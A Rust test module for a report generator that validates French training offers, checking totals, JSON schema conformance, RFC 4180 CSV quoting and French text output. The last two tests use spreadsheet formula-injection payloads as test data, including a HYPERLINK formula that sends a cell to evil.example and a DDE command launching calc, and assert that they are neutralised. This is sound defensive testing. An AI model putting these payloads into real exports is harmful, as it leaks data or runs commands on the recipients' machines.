use serde_json::Value;

use super::*;
use crate::model::EtatWorkflow;
use crate::rules::testkit::*;

/// Reads RFC 4180 CSV back into rows of fields (test oracle for `write_csv`).
pub(crate) fn parse_csv(s: &str) -> Vec<Vec<String>> {
    let mut rows = Vec::new();
    let (mut row, mut field) = (Vec::new(), String::new());
    let mut chars = s.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                field.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => field.push(c),
            (false, '"') if field.is_empty() => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut field)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut field));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => {
                assert!(c != '\n' && c != '\r' && c != '"', "unquoted {c:?} in CSV");
                field.push(c);
            }
        }
    }
    assert!(
        !quoted && field.is_empty() && row.is_empty(),
        "CSV must end with CRLF"
    );
    rows
}

/// Checks `value` against `schemas/report.schema.json`, for the keywords that schema
/// uses (type, const, enum, required, properties, additionalProperties, items, $ref,
/// anyOf, minimum, minLength); `pattern` is checked only for the code formats.
pub(crate) fn validate_against_schema(value: &Value) -> Result<(), String> {
    let schema: Value = serde_json::from_str(include_str!("../../../schemas/report.schema.json"))
        .map_err(|e| format!("schema is not JSON: {e}"))?;
    check(&schema, &schema, value, "$")
}

fn check(root: &Value, schema: &Value, v: &Value, at: &str) -> Result<(), String> {
    let err = |what: String| Err(format!("{at}: {what}"));
    if let Some(r) = schema.get("$ref").and_then(Value::as_str) {
        let name = r
            .strip_prefix("#/$defs/")
            .ok_or(format!("unsupported $ref {r}"))?;
        return check(root, &root["$defs"][name], v, at);
    }
    if let Some(any) = schema.get("anyOf").and_then(Value::as_array) {
        if !any.iter().any(|s| check(root, s, v, at).is_ok()) {
            return err(format!("{v} matches no alternative"));
        }
    }
    if let Some(t) = schema.get("type") {
        let types: Vec<&str> = match t {
            Value::String(s) => vec![s.as_str()],
            Value::Array(a) => a.iter().filter_map(Value::as_str).collect(),
            _ => return err("bad type keyword".into()),
        };
        let ok = types.iter().any(|t| match *t {
            "object" => v.is_object(),
            "array" => v.is_array(),
            "string" => v.is_string(),
            "integer" => v.is_u64() || v.is_i64(),
            "boolean" => v.is_boolean(),
            "null" => v.is_null(),
            _ => false,
        });
        if !ok {
            return err(format!("{v} is not of type {types:?}"));
        }
    }
    if let Some(c) = schema.get("const") {
        if c != v {
            return err(format!("{v} is not {c}"));
        }
    }
    if let Some(e) = schema.get("enum").and_then(Value::as_array) {
        if !e.contains(v) {
            return err(format!("{v} is not one of {e:?}"));
        }
    }
    if let (Some(min), Some(n)) = (schema.get("minimum").and_then(Value::as_i64), v.as_i64()) {
        if n < min {
            return err(format!("{n} < {min}"));
        }
    }
    if let (Some(min), Some(s)) = (schema.get("minLength").and_then(Value::as_u64), v.as_str()) {
        if (s.chars().count() as u64) < min {
            return err("string too short".into());
        }
    }
    if let (Some(p), Some(s)) = (schema.get("pattern").and_then(Value::as_str), v.as_str()) {
        let ok = match p {
            "^[0-9]{14}$" => s.len() == 14 && s.bytes().all(|b| b.is_ascii_digit()),
            "^[1-9][0-9]*-[1-9][0-9]*$" => crate::model::ActionCode::parse(s).is_ok(),
            "^[1-9][0-9]*-[1-9][0-9]*-[1-9][0-9]*$" => crate::model::FasCode::parse(s).is_ok(),
            "^[A-Z][A-Z0-9_]*$" => {
                s.starts_with(|c: char| c.is_ascii_uppercase())
                    && s.chars()
                        .all(|c| c.is_ascii_uppercase() || c.is_ascii_digit() || c == '_')
            }
            _ => return err(format!("pattern {p} unknown to the test checker")),
        };
        if !ok {
            return err(format!("{s:?} does not match {p}"));
        }
    }
    if let Some(obj) = v.as_object() {
        let props = schema.get("properties").and_then(Value::as_object);
        for key in schema
            .get("required")
            .and_then(Value::as_array)
            .into_iter()
            .flatten()
        {
            let key = key.as_str().unwrap_or_default();
            if !obj.contains_key(key) {
                return err(format!("missing required {key}"));
            }
        }
        for (k, child) in obj {
            match props.and_then(|p| p.get(k)) {
                Some(s) => check(root, s, child, &format!("{at}.{k}"))?,
                None if schema.get("additionalProperties") == Some(&Value::Bool(false)) => {
                    return err(format!("unexpected key {k}"))
                }
                None => {}
            }
        }
    }
    if let (Some(items), Some(arr)) = (schema.get("items"), v.as_array()) {
        for (i, child) in arr.iter().enumerate() {
            check(root, items, child, &format!("{at}[{i}]"))?;
        }
    }
    Ok(())
}

/// Three offers: one exported with a rejected session and a warning (CARIFOREF), one
/// withdrawn (CARIFOREF), one rejected whole (the other organisme).
fn sample() -> (Vec<Outcome>, Fixture) {
    let mut a = Fixture::new();
    a.offre.sessions[1].informations_collectives.clear();
    a.offre.action.url_pdf = Some(text("plaquette.pdf"));

    let mut b = Fixture::new();
    b.offre.numero = crate::model::ActionCode::parse("19482-1").unwrap();
    for s in &mut b.offre.sessions {
        s.code.action = b.offre.numero;
    }
    b.today = crate::rules::testkit::date("2026-06-01");

    let mut c = Fixture::new();
    c.offre.numero = crate::model::ActionCode::parse("20000-5").unwrap();
    c.offre.mandataire = siret(AUTRE_OF);
    c.offre.etat = EtatWorkflow::EnCoursDeSaisie;
    for s in &mut c.offre.sessions {
        s.code.action = c.offre.numero;
        s.organisme_responsable.siret = siret(AUTRE_OF);
        // The lot the Region gave this mandataire.
        s.dispositif.numero_lot_cr = Some(text("1E1F2025_9"));
    }
    // A message with a comma, quotes and a line break in what it quotes.
    c.offre.action.url_action = Some(text("lien, \"cité\"\nsuite"));

    let outcomes = vec![c.eval(), a.eval(), b.eval()];
    (outcomes, a)
}

#[test]
fn groups_by_organisme_then_offer_then_session_with_totals() {
    let (outcomes, fx) = sample();
    let r = Report::new(&outcomes, &fx.organismes);
    let t = &r.totals;
    assert_eq!(
        (
            t.offres_checked,
            t.offres_exportable,
            t.offres_rejected,
            t.offres_inactive
        ),
        (3, 1, 1, 1)
    );
    assert_eq!(
        (
            t.sessions_accepted,
            t.sessions_rejected,
            t.sessions_inactive
        ),
        (1, 3, 2)
    );
    assert_eq!((t.findings, t.errors, t.warnings), (4, 2, 2));
    let by_code: Vec<(&str, usize)> = t
        .findings_by_code
        .iter()
        .map(|c| (c.code, c.count))
        .collect();
    assert_eq!(
        by_code,
        vec![
            ("ETAT_NON_VALIDEE", 1),
            ("URL_INVALIDE", 2),
            ("IC_ABSENTE", 1)
        ]
    );

    let sirets: Vec<&str> = r.organismes.iter().map(|o| o.siret.as_str()).collect();
    assert_eq!(sirets, vec![CARIFOREF, AUTRE_OF], "SIRET order");
    let cariforef = &r.organismes[0];
    assert_eq!(
        cariforef.raison_sociale.as_deref(),
        Some("CARIFOREF DES PAYS DE LA LOIRE")
    );
    assert_eq!(cariforef.totals.offres_checked, 2);
    let numeros: Vec<String> = cariforef
        .offres
        .iter()
        .map(|o| o.offre.to_string())
        .collect();
    assert_eq!(numeros, vec!["19482-1", "19482-89393"], "numero order");
    assert_eq!(cariforef.offres[0].status, OffreStatus::Inactive);
    let a = &cariforef.offres[1];
    assert_eq!(a.status, OffreStatus::Exportable);
    assert_eq!(a.findings.len(), 1, "the URL warning is about the action");
    assert_eq!(a.sessions.len(), 2);
    assert_eq!(a.sessions[0].status, SessionStatus::Accepted);
    assert_eq!(a.sessions[1].status, SessionStatus::Rejected);
    assert_eq!(a.sessions[1].findings[0].code, "IC_ABSENTE");
    assert_eq!(r.organismes[1].offres[0].status, OffreStatus::Rejected);
}

#[test]
fn json_follows_the_published_schema() {
    let (outcomes, fx) = sample();
    let v = Report::new(&outcomes, &fx.organismes).to_json();
    validate_against_schema(&v).unwrap();
    assert_eq!(v["version"], 1);
    assert_eq!(
        v["organismes"][0]["offres"][1]["sessions"][1]["findings"][0]["severity"],
        "reject_session"
    );
    assert_eq!(
        v["organismes"][0]["offres"][1]["findings"][0]["session"],
        Value::Null
    );
    // The checker does catch drift.
    let mut bad = v.clone();
    bad["totals"]["surprise"] = 1.into();
    assert!(validate_against_schema(&bad).is_err());
    let mut bad = v.clone();
    bad["organismes"][0]["offres"][0]["status"] = "gone".into();
    assert!(validate_against_schema(&bad).is_err());
    let mut bad = v;
    bad["organismes"][0]["siret"] = "123".into();
    assert!(validate_against_schema(&bad).is_err());
}

#[test]
fn an_empty_run_has_zero_totals() {
    let r = Report::new(&[], &Default::default());
    assert_eq!(r.totals, Totals::default());
    assert!(r.organismes.is_empty());
    validate_against_schema(&r.to_json()).unwrap();
    let mut csv = Vec::new();
    r.write_csv(&mut csv).unwrap();
    assert_eq!(
        String::from_utf8(csv).unwrap(),
        "siret,raison_sociale,offre,session,code,gravité,champ,message\r\n"
    );
    assert!(r.to_text().contains("Actions contrôlées : 0"));
}

#[test]
fn csv_has_one_row_per_finding_and_quotes_by_rfc_4180() {
    let (outcomes, fx) = sample();
    let r = Report::new(&outcomes, &fx.organismes);
    let mut out = Vec::new();
    r.write_csv(&mut out).unwrap();
    let csv = String::from_utf8(out).unwrap();
    let rows = parse_csv(&csv);
    assert_eq!(rows.len(), 1 + 4);
    assert!(rows.iter().all(|r| r.len() == 8));
    assert_eq!(
        rows[1][..7],
        [
            CARIFOREF,
            "CARIFOREF DES PAYS DE LA LOIRE",
            "19482-89393",
            "",
            "URL_INVALIDE",
            "à corriger",
            "action.url_pdf"
        ]
    );
    assert_eq!(rows[2][3], "19482-89393-143843");
    assert_eq!(rows[2][4], "IC_ABSENTE");
    assert_eq!(rows[2][5], "session non diffusée");
    let autre = &rows[3];
    assert_eq!(autre[1], "FORMATION OUEST, SARL \"Le Quai\"");
    assert!(csv.contains("\"FORMATION OUEST, SARL \"\"Le Quai\"\"\""));
    let all_messages: Vec<&String> = rows[1..].iter().map(|r| &r[7]).collect();
    assert!(
        all_messages
            .iter()
            .any(|m| m.contains("« lien, \"cité\" suite »")),
        "{all_messages:#?}"
    );
}

#[test]
fn csv_quoting_round_trips_awkward_fields() {
    let fields = [
        "plain",
        "a,b",
        "say \"hi\"",
        "two\nlines",
        "cr\ronly",
        "",
        " lead",
        "é😀",
    ];
    let mut line = String::new();
    csv_row(&mut line, &fields);
    assert_eq!(
        line,
        "plain,\"a,b\",\"say \"\"hi\"\"\",\"two\nlines\",\"cr\ronly\",, lead,é😀\r\n"
    );
    assert_eq!(parse_csv(&line), vec![fields.map(String::from).to_vec()]);
}

#[test]
fn text_is_french_and_names_every_record() {
    let (outcomes, fx) = sample();
    let text = Report::new(&outcomes, &fx.organismes).to_text();
    for expected in [
        "Contrôle de l'offre SOFI avant diffusion (LHÉO)",
        "Synthèse",
        "Actions contrôlées : 3 — diffusées : 1, non diffusées : 1, retirées (sessions terminées) : 1",
        "CARIFOREF DES PAYS DE LA LOIRE — SIRET 13000511900032",
        "FORMATION OUEST, SARL \"Le Quai\" — SIRET 73282932000074",
        "Action 19482-89393 : diffusée (1 session(s) diffusée(s) sur 2)",
        "Action 19482-1 : retirée de la diffusion : toutes ses sessions sont terminées",
        "Action 20000-5 : non diffusée",
        "Session 19482-89393-143843 : non diffusée",
        "[session non diffusée] IC_ABSENTE : La session 19482-89393-143843 n'a aucune information collective",
        "IC_ABSENTE — Information collective absente (session non diffusée) : 1",
        "[action non diffusée] ETAT_NON_VALIDEE",
    ] {
        assert!(text.contains(expected), "missing {expected:?} in\n{text}");
    }
    // Organismes come in SIRET order in the text too.
    assert!(
        text.find("SIRET 13000511900032").unwrap() < text.find("SIRET 73282932000074").unwrap()
    );
}

#[test]
fn drafts_are_listed_under_their_organisme_in_text_and_json() {
    let (outcomes, mut fx) = sample();
    // A draft of an organisme with no validated offer, and one of an organisme that has.
    fx.s0().type_parcours = crate::model::TypeParcours::Inconnu;
    let champs = crate::rules::saisie::champs_manquants(
        &fx.offre,
        &["offre.sessions[0].entrees_sorties".to_owned()],
    );
    let saisie = |numero: &str, etat| SaisieIncomplete {
        offre: crate::model::ActionCode::parse(numero).unwrap(),
        etat,
        champs: champs.clone(),
    };
    let r = Report::new(&outcomes, &fx.organismes).with_saisies(
        vec![
            (
                siret(INCONNU),
                saisie("30000-2", EtatWorkflow::EnCoursDeSaisie),
            ),
            (
                siret(CARIFOREF),
                saisie("30000-1", EtatWorkflow::EnAttenteDeValidation),
            ),
            // Nothing missing: not listed.
            (
                siret(CARIFOREF),
                SaisieIncomplete {
                    champs: Vec::new(),
                    ..saisie("30000-3", EtatWorkflow::EnCoursDeSaisie)
                },
            ),
        ],
        &fx.organismes,
    );
    validate_against_schema(&r.to_json()).unwrap();
    let sirets: Vec<&str> = r.organismes.iter().map(|o| o.siret.as_str()).collect();
    let mut sorted = sirets.clone();
    sorted.sort();
    assert_eq!(sirets, sorted, "SIRET order kept");
    let inconnu = r
        .organismes
        .iter()
        .find(|o| o.siret.as_str() == INCONNU)
        .unwrap();
    assert_eq!(inconnu.totals, Totals::default());
    assert_eq!(inconnu.saisies_incompletes.len(), 1);
    let carif = r
        .organismes
        .iter()
        .find(|o| o.siret.as_str() == CARIFOREF)
        .unwrap();
    assert_eq!(
        carif.saisies_incompletes.len(),
        1,
        "the complete one is left out"
    );
    assert_eq!(r.totals.offres_checked, 3, "drafts are not counted");
    let text = r.to_text();
    assert!(
        text.contains(
            "  Action 30000-1 (en attente de validation) : champs obligatoires à compléter \
             avant l'envoi en validation au Cariforef\n    - fiche Session 19482-89393-143842 \
             : « ESP »\n    - fiche Session 19482-89393-143842 : « Type de parcours »\n"
        ),
        "{text}"
    );
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
    // OWASP's list: =, +, -, @, tab, carriage return at the start of a cell.
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Cliquez\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
    ];
    let mut line = String::new();
    csv_row(&mut line, &hostile);
    let row = &parse_csv(&line)[0];
    for (cell, given) in row.iter().zip(hostile) {
        assert_eq!(cell, &format!("'{given}"), "{line:?}");
    }
    // Text that merely contains those characters is kept as given.
    for plain in ["Formation = métier", "a-b", "x@y.fr", "", "19482-89393"] {
        assert_eq!(neutralise(plain), plain);
    }
}

#[test]
fn check_csv_neutralises_a_hostile_raison_sociale() {
    let (outcomes, mut fx) = sample();
    for o in fx.organismes.values_mut() {
        o.raison_sociale = text("=HYPERLINK(\"http://evil.example\",\"OK\")");
    }
    let r = Report::new(&outcomes, &fx.organismes);
    let mut out = Vec::new();
    r.write_csv(&mut out).unwrap();
    let rows = parse_csv(std::str::from_utf8(&out).unwrap());
    assert!(rows.len() > 1);
    for row in &rows[1..] {
        assert_eq!(row[1], "'=HYPERLINK(\"http://evil.example\",\"OK\")");
    }
}
